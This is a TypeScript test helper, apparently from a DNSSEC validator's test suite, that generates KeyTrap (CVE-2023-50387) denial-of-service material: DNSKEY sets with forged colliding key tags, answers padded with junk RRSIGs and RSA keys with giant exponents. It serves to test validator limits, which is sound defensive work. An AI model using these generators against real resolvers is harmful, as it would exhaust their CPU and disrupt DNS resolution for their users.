// Test and bench helper: the material of KeyTrap-class attacks (CVE-2023-50387), built as an attacker
// who owns a properly signed zone would: a DNSKEY set full of keys sharing one key tag (LockCram), an
// RRset carrying many RRSIGs with that tag (SigJam), and an RSA key with a huge public exponent.
// Every fake key is a well-formed Ed25519 point, so a validator without bounds pays a full signature
// verification for each (key, RRSIG) pair.
import { createPrivateKey, createPublicKey, generateKeyPairSync, type KeyObject, randomBytes } from 'node:crypto';
import type { RR } from '../../src/wire/types';
import { encodeDnskey, encodeRrsig } from '../../src/wire/rdata';
import { keyTag, rrsigLabelCount } from '../../src/dnssec/records';
import { a, rr, T, TestKey } from './signer';

const P = 2n ** 255n - 19n;

function modpow(b: bigint, e: bigint, m: bigint): bigint {
  let r = 1n;
  b %= m;
  while (e > 0n) {
    if (e & 1n) r = (r * b) % m;
    b = (b * b) % m;
    e >>= 1n;
  }
  return r;
}

const D = (((-121665n * modpow(121666n, P - 2n, P)) % P) + P) % P;

/** RFC 8032 §5.1.3: does this 32-byte string decode to a point (so a verifier does the full work)? */
export function isEd25519Point(b: Uint8Array): boolean {
  let y = 0n;
  for (let i = 31; i >= 0; i--) y = (y << 8n) | BigInt(i === 31 ? b[i]! & 0x7f : b[i]!);
  if (y >= P) return false;
  const u = (y * y - 1n + P) % P;
  const v = (D * y * y + 1n) % P;
  const x2 = (u * modpow(v, P - 2n, P)) % P;
  if (x2 === 0n) return (b[31]! & 0x80) === 0;
  return modpow(x2, (P - 1n) / 2n, P) === 1n;
}

/**
 * `count` distinct Ed25519 zone keys of `zone` whose key tag is `tag`: random points, the last two
 * bytes of each chosen so the RFC 4034 Appendix B checksum comes out as `tag`.
 */
export function collidingEd25519Keys(zone: string, tag: number, count: number, flags = 256): RR[] {
  const out: RR[] = [];
  const seen = new Set<string>();
  while (out.length < count) {
    const pub = new Uint8Array(randomBytes(32));
    const rdata = encodeDnskey({ flags, protocol: 3, algorithm: 15, publicKey: pub });
    // RDATA is 36 bytes: the last two (key bytes 30, 31) add (b34 << 8 | b35) to the checksum.
    let ac0 = 0;
    for (let i = 0; i < 34; i++) ac0 += i & 1 ? rdata[i]! : rdata[i]! << 8;
    for (let v = 0; v < 0x10000; v++) {
      const ac = ac0 + v;
      if (((ac + (ac >>> 16)) & 0xffff) !== tag) continue;
      pub[30] = v >> 8;
      pub[31] = v & 0xff;
      if (!isEd25519Point(pub)) continue;
      const rd = encodeDnskey({ flags, protocol: 3, algorithm: 15, publicKey: pub });
      const id = Buffer.from(rd).toString('hex');
      if (keyTag(rd) !== tag || seen.has(id)) continue;
      seen.add(id);
      out.push(rr(zone, T.DNSKEY, rd));
      break;
    }
  }
  return out;
}

/**
 * An RRSIG that claims `key`'s tag and algorithm but carries random signature bytes. For Ed25519 the
 * scalar half is kept below the group order (RFC 8032 §5.1.7 rejects larger ones before any work), so
 * checking it costs a full verification.
 */
export function junkRrsig(key: TestKey, rrs: RR[], expiration = 2_000_000_000): RR {
  const signature = new Uint8Array(randomBytes(key.alg === 8 ? 256 : 64));
  if (key.alg === 15) signature[63]! &= 0x0f;
  const fields = {
    typeCovered: rrs[0]!.type,
    algorithm: key.alg,
    labels: rrsigLabelCount(rrs[0]!.name),
    originalTtl: rrs[0]!.ttl,
    expiration,
    inception: 1_000_000_000,
    keyTag: key.tag,
    signerName: key.zone,
    signature,
  };
  return rr(rrs[0]!.name, T.RRSIG, encodeRrsig(fields), rrs[0]!.ttl);
}

export interface KeyTrapZone {
  zone: string;
  ksk: TestKey;
  zsk: TestKey;
  /** KSK, ZSK and the colliding keys, signed by the KSK (a valid DNSKEY RRset). */
  dnskeys: RR[];
  dnskeySig: RR;
  /** The answer RRset, with `sigs` junk RRSIGs claiming the ZSK's tag, then the ZSK's real one. */
  answer: RR[];
  answerSigs: RR[];
}

/**
 * A signed zone as a KeyTrap attacker builds it: `keys` extra keys share the ZSK's tag; the answer
 * carries `sigs` RRSIGs that claim that tag (and, last, one genuine signature, so a validator that
 * tried everything would end up "secure" after all the work).
 */
export function keyTrapZone(zone: string, keys: number, sigs: number, owner = `www.${zone}`): KeyTrapZone {
  const ksk = new TestKey(zone, 15, 257);
  const zsk = new TestKey(zone, 15, 256);
  const dnskeys = [ksk.dnskey, zsk.dnskey, ...collidingEd25519Keys(zone, zsk.tag, keys)];
  const answer = [a(owner, '192.0.2.66')];
  const answerSigs = [...Array.from({ length: sigs }, () => junkRrsig(zsk, answer)), zsk.sign(answer)];
  return { zone, ksk, zsk, dnskeys, dnskeySig: ksk.sign(dnskeys), answer, answerSigs };
}

function b64uToBig(s: string): bigint {
  return BigInt(`0x${Buffer.from(s, 'base64url').toString('hex') || '0'}`);
}

function bigToB64u(n: bigint): string {
  let h = n.toString(16);
  if (h.length % 2) h = `0${h}`;
  return Buffer.from(h, 'hex').toString('base64url');
}

function egcd(a: bigint, b: bigint): [bigint, bigint, bigint] {
  let [r0, r1, s0, s1] = [a, b, 1n, 0n];
  while (r1 !== 0n) {
    const q = r0 / r1;
    [r0, r1] = [r1, r0 - q * r1];
    [s0, s1] = [s1, s0 - q * s1];
  }
  return [r0, s0, 0n];
}

function modInverse(a: bigint, m: bigint): bigint {
  const [g, x] = egcd(((a % m) + m) % m, m);
  if (g !== 1n) throw new Error('not invertible');
  return ((x % m) + m) % m;
}

/**
 * A working RSA key pair whose public exponent is `exponentBits` long (RFC 3110 allows up to 4096 bits);
 * signatures made with it verify, slowly. Built from a normal key's primes: e random and odd, coprime
 * to φ(n), d = e⁻¹ mod φ(n).
 */
export function bigExponentRsaKey(modulusBits: number, exponentBits: number): { privateKey: KeyObject; publicKey: KeyObject } {
  // The JWK of a key imported from PEM, not of the generated one: Node 20 exports a JWK under the key's
  // mutex, which a GC collecting the key's generation job also takes (a deadlock; see peers/keys.ts).
  const pem = generateKeyPairSync('rsa', { modulusLength: modulusBits }).privateKey.export({ type: 'pkcs8', format: 'pem' });
  const base = createPrivateKey(pem).export({ format: 'jwk' }) as Record<string, string>;
  const p = b64uToBig(base.p!);
  const q = b64uToBig(base.q!);
  const n = p * q;
  const phi = (p - 1n) * (q - 1n);
  let e = b64uToBig(randomBytes(Math.ceil(exponentBits / 8)).toString('base64url'));
  e = (e & ((1n << BigInt(exponentBits)) - 1n)) | (1n << BigInt(exponentBits - 1)) | 1n;
  while (egcd(e, phi)[0] !== 1n) e += 2n;
  const d = modInverse(e, phi);
  const jwk = {
    kty: 'RSA',
    n: bigToB64u(n),
    e: bigToB64u(e),
    d: bigToB64u(d),
    p: bigToB64u(p),
    q: bigToB64u(q),
    dp: bigToB64u(d % (p - 1n)),
    dq: bigToB64u(d % (q - 1n)),
    qi: bigToB64u(modInverse(q, p)),
  };
  return {
    privateKey: createPrivateKey({ key: jwk, format: 'jwk' }),
    publicKey: createPublicKey({ key: { kty: 'RSA', n: jwk.n, e: jwk.e }, format: 'jwk' }),
  };
}
